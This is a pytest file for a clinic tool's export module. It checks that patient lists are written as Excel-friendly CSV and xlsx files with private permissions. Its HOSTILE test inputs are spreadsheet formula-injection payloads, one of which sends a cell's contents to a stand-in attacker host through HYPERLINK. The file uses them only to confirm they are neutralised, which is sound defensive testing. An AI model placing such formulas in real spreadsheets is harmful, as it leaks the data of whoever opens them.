"""Lists written to files (``export.lists``): CSV that Excel opens (BOM, CRLF, DD/MM/YYYY), xlsx read back with
openpyxl, owner-only, and cells that a spreadsheet would run as formulas escaped (CSV) or kept as strings (xlsx)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import stat
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from coordinator_tui.export.atomic import ExportError
from coordinator_tui.export.lists import (
    ListTable,
    cell_text,
    csv_bytes,
    escape_formula,
    format_of,
    sheet_name,
    with_format,
    write_list,
    xlsx_bytes,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


def table(*rows: tuple[object, ...]) -> ListTable:
    return ListTable(
        title="Who's coming: Combined clinic",
        name="2027-03-29_clinic-3_coming",
        headers=("Patient", "Born", "Arrives", "At", "Nights", "Booked"),
        rows=tuple(rows),  # type: ignore[arg-type]
    )


SAMPLE = table(
    ("Testperson, Ava", dt.date(2012, 3, 9), dt.datetime(2027, 3, 28, 18, 15), dt.time(9, 5), 2, True),
    ("Exampleton, Zoë ✓", None, None, None, None, False),
)


def parse_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_a_bom_crlf_and_uk_dates() -> None:
    data = csv_bytes(SAMPLE)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with it
    assert b"\r\n" in data and data.count(b"\n") == data.count(b"\r\n") == 3
    rows = parse_csv(data)
    assert rows[0] == list(SAMPLE.headers)
    assert rows[1] == ["Testperson, Ava", "09/03/2012", "28/03/2027 18:15", "09:05", "2", "yes"]
    assert rows[2] == ["Exampleton, Zoë ✓", "", "", "", "", "no"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_escapes_cells_a_spreadsheet_would_run(text: str) -> None:
    rows = parse_csv(csv_bytes(table((text, None, None, None, None, None))))
    assert rows[1][0] == "'" + text
    assert not rows[1][0].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_leaves_ordinary_text_and_numbers_alone() -> None:
    rows = parse_csv(csv_bytes(table(("O'Brien-Smith, Ann", None, None, None, -3, None))))
    assert rows[1][0] == "O'Brien-Smith, Ann"
    assert rows[1][4] == "-3"  # a number is not a formula
    assert escape_formula("a=b") == "a=b" and escape_formula("=b") == "'=b"


def test_cell_text() -> None:
    assert cell_text(dt.date(2027, 1, 2)) == "02/01/2027"
    assert cell_text(dt.datetime(2027, 1, 2, 7, 5)) == "02/01/2027 07:05"
    assert cell_text(None) == "" and cell_text(False) == "no" and cell_text(12) == "12"


def test_xlsx_reads_back_with_dates_as_dates() -> None:
    workbook = load_workbook(io.BytesIO(xlsx_bytes(SAMPLE)))
    sheet = workbook.worksheets[0]
    assert sheet.title == "Who's coming Combined clinic"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == SAMPLE.headers
    assert rows[1][:2] == ("Testperson, Ava", dt.datetime(2012, 3, 9))
    assert rows[1][2] == dt.datetime(2027, 3, 28, 18, 15)
    assert rows[1][4] == 2 and rows[1][5] == "yes"
    assert rows[2][0] == "Exampleton, Zoë ✓" and rows[2][1] is None
    assert sheet["B2"].number_format == "DD/MM/YYYY" and sheet["B2"].is_date
    assert sheet["C2"].number_format == "DD/MM/YYYY HH:MM"
    assert sheet["A1"].font.bold


def test_xlsx_writes_hostile_text_as_strings_never_formulas() -> None:
    data = xlsx_bytes(table(*((text, None, None, None, None, None) for text in HOSTILE), ("#N/A", *[None] * 5)))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element anywhere
    assert 't="e"' not in sheet_xml  # nor an error cell
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    values = [sheet.cell(row=i + 2, column=1) for i in range(len(HOSTILE) + 1)]
    # XML reads a carriage return back as a line feed: the text is otherwise as it was, and never a formula.
    assert [c.value for c in values] == [*(t.replace("\r", "\n") for t in HOSTILE), "#N/A"]
    assert all(c.data_type == "s" for c in values)


def test_xlsx_shows_control_characters_it_cannot_hold() -> None:
    data = xlsx_bytes(table(("Test\x1b[2Jperson\x00", None, None, None, None, None)))
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["A2"].value == "Test\\x1b[2Jperson\\x00"


def test_sheet_names_are_valid() -> None:
    assert sheet_name("Timetable day 1: Combined clinic [March]/?") == "Timetable day 1 Combined clinic"
    assert sheet_name("::") == "List"
    assert len(sheet_name("x" * 80)) == 31


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_written_owner_only_and_atomically(tmp_path: Path, fmt: str) -> None:
    old = os.umask(0o022)  # a permissive umask must not widen the file
    try:
        path = write_list(SAMPLE, tmp_path / "new" / f"coming.{fmt}")
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert sorted(p.name for p in path.parent.iterdir()) == [f"coming.{fmt}"]  # no temporary file left
    if fmt == "csv":
        assert parse_csv(path.read_bytes())[1][0] == "Testperson, Ava"
    else:
        assert load_workbook(path).worksheets[0]["A2"].value == "Testperson, Ava"


def test_the_ending_chooses_the_format(tmp_path: Path) -> None:
    assert format_of(Path("a/list.CSV")) == "csv" and format_of(Path("list.xlsx")) == "xlsx"
    with pytest.raises(ExportError, match=r"must end in \.csv or \.xlsx"):
        write_list(SAMPLE, tmp_path / "list.txt")
    assert not (tmp_path / "list.txt").exists()
    assert with_format("/x/list.csv", "xlsx") == "/x/list.xlsx"
    assert with_format("/x/list", "csv") == "/x/list.csv"


def test_an_unwritable_folder_is_one_line_without_names(tmp_path: Path) -> None:
    if os.geteuid() == 0:
        blocked = tmp_path / "file-in-the-way"
        blocked.write_text("x")
        target = blocked / "sub" / "coming.csv"  # a file where a folder should be: refused even for root
    else:
        blocked = tmp_path / "locked"
        blocked.mkdir(mode=0o500)
        target = blocked / "coming.csv"
    with pytest.raises(ExportError) as caught:
        write_list(SAMPLE, target)
    message = str(caught.value)
    assert "\n" not in message and "Testperson" not in message
    assert not target.exists()


def test_a_row_of_the_wrong_width_is_refused() -> None:
    with pytest.raises(ValueError, match="2 cells in a list of 6 columns"):
        table(("a", "b"))
